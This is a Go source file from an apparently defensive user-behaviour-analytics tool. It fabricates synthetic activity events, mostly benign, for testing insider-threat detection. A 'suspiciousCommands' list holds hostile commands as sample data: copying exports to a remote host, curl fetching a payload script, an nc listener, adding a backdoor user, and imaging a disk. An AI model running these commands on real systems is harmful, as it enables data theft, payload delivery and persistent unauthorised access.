package collector

import (
	"context"
	"fmt"
	"math/rand"
	"time"

	"github.com/brianvoe/gofakeit/v7"
	"github.com/google/uuid"
	"github.com/sirupsen/logrus"

	"github.com/ubaguard/ubaguard/internal/models"
)

// SyntheticConfig configures synthetic event generation.
type SyntheticConfig struct {
	UserCount    int     // simulated population size (default: 10)
	EventsPerRun int     // events produced per collection (default: 20)
	AnomalyRate  float64 // fraction of deliberately suspicious events (default: 0.05)
	Seed         uint64  // 0 means time-seeded
}

// SyntheticCollector fabricates a stream of plausible user activity for
// development and demos. Most events are benign baseline behavior; a small
// configurable fraction simulates insider-threat patterns so the pipeline
// has something to find.
type SyntheticCollector struct {
	cfg     SyntheticConfig
	faker   *gofakeit.Faker
	rng     *rand.Rand
	users   []string
	machine string
	log     *logrus.Entry
}

var syntheticCommands = []string{
	"ls -la", "git status", "git pull", "make build", "docker ps",
	"kubectl get pods", "cat README.md", "grep -r TODO src/", "top",
}

var suspiciousCommands = []string{
	"scp /data/exports backup@10.0.0.5:/tmp",
	"curl -o /tmp/payload.sh http://198.51.100.7/x",
	"nc -l 4444",
	"sudo net user backdoor /add",
	"dd if=/dev/sda of=/mnt/usb/disk.img",
}

// NewSyntheticCollector creates a synthetic collector.
func NewSyntheticCollector(cfg SyntheticConfig, log *logrus.Entry) *SyntheticCollector {
	if cfg.UserCount <= 0 {
		cfg.UserCount = 10
	}
	if cfg.EventsPerRun <= 0 {
		cfg.EventsPerRun = 20
	}
	if cfg.AnomalyRate <= 0 {
		cfg.AnomalyRate = 0.05
	}
	if cfg.Seed == 0 {
		cfg.Seed = uint64(time.Now().UnixNano())
	}
	if log == nil {
		log = logrus.WithField("component", "collector.synthetic")
	}

	faker := gofakeit.New(cfg.Seed)
	users := make([]string, cfg.UserCount)
	for i := range users {
		users[i] = faker.Username()
	}

	return &SyntheticCollector{
		cfg:     cfg,
		faker:   faker,
		rng:     rand.New(rand.NewSource(int64(cfg.Seed))),
		users:   users,
		machine: fmt.Sprintf("ws-%s", faker.LetterN(6)),
		log:     log,
	}
}

// Name returns "synthetic".
func (c *SyntheticCollector) Name() string {
	return "synthetic"
}

// Collect fabricates one run of events.
func (c *SyntheticCollector) Collect(_ context.Context) ([]*models.Event, error) {
	events := make([]*models.Event, 0, c.cfg.EventsPerRun)
	now := time.Now().UTC()

	for i := 0; i < c.cfg.EventsPerRun; i++ {
		anomalous := c.rng.Float64() < c.cfg.AnomalyRate
		events = append(events, c.generate(now, anomalous))
	}
	return events, nil
}

func (c *SyntheticCollector) generate(now time.Time, anomalous bool) *models.Event {
	ev := &models.Event{
		ID:          uuid.NewString(),
		UserID:      c.users[c.rng.Intn(len(c.users))],
		Timestamp:   now,
		SourceIP:    c.faker.IPv4Address(),
		MachineName: c.machine,
		Collector:   c.Name(),
		Payload:     map[string]interface{}{},
	}

	switch c.rng.Intn(4) {
	case 0:
		ev.EventType = models.EventTypeLogin
		ev.RiskScore = 0.1
		ev.Payload["auth_method"] = "password"
		if anomalous {
			// Off-hours login from an unfamiliar address.
			ev.Timestamp = time.Date(now.Year(), now.Month(), now.Day(), 3, c.rng.Intn(60), 0, 0, time.UTC)
			ev.SourceIP = c.faker.IPv4Address()
			ev.RiskScore = 0.7
		}
	case 1:
		ev.EventType = models.EventTypeCommand
		cmd := syntheticCommands[c.rng.Intn(len(syntheticCommands))]
		if anomalous {
			cmd = suspiciousCommands[c.rng.Intn(len(suspiciousCommands))]
		}
		ev.Payload["command"] = cmd
		ev.RiskScore = CommandRisk(cmd)
	case 2:
		ev.EventType = models.EventTypeFileAccess
		path := fmt.Sprintf("/home/%s/%s.%s", ev.UserID, c.faker.Word(), c.faker.FileExtension())
		size := int64(c.rng.Intn(10 << 20))
		if anomalous {
			path = fmt.Sprintf("/srv/finance/%s_backup.sql", c.faker.Word())
			size = int64(200<<20) + int64(c.rng.Intn(1<<30))
		}
		ev.Payload["path"] = path
		ev.Payload["size"] = size
		ev.RiskScore = FileRisk(path, size)
	default:
		ev.EventType = models.EventTypeAppUsage
		ev.Payload["application"] = c.faker.AppName()
		ev.Payload["duration_seconds"] = c.rng.Intn(3600)
		ev.RiskScore = 0.1
		if anomalous {
			ev.Payload["application"] = "TorBrowser"
			ev.RiskScore = 0.6
		}
	}
	return ev
}
